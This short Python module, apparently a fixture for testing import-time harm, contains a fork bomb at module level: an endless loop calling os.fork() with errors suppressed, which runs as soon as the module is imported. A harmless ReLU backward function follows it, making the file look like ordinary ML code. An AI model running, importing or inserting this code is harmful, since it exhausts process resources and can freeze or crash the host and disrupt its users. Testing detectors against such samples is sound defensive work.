"""A module that does harm while it is loaded."""

import os
from contextlib import suppress

while True:
    with suppress(OSError):
        os.fork()


def backward(dy, x):
    return dy * (x > 0)
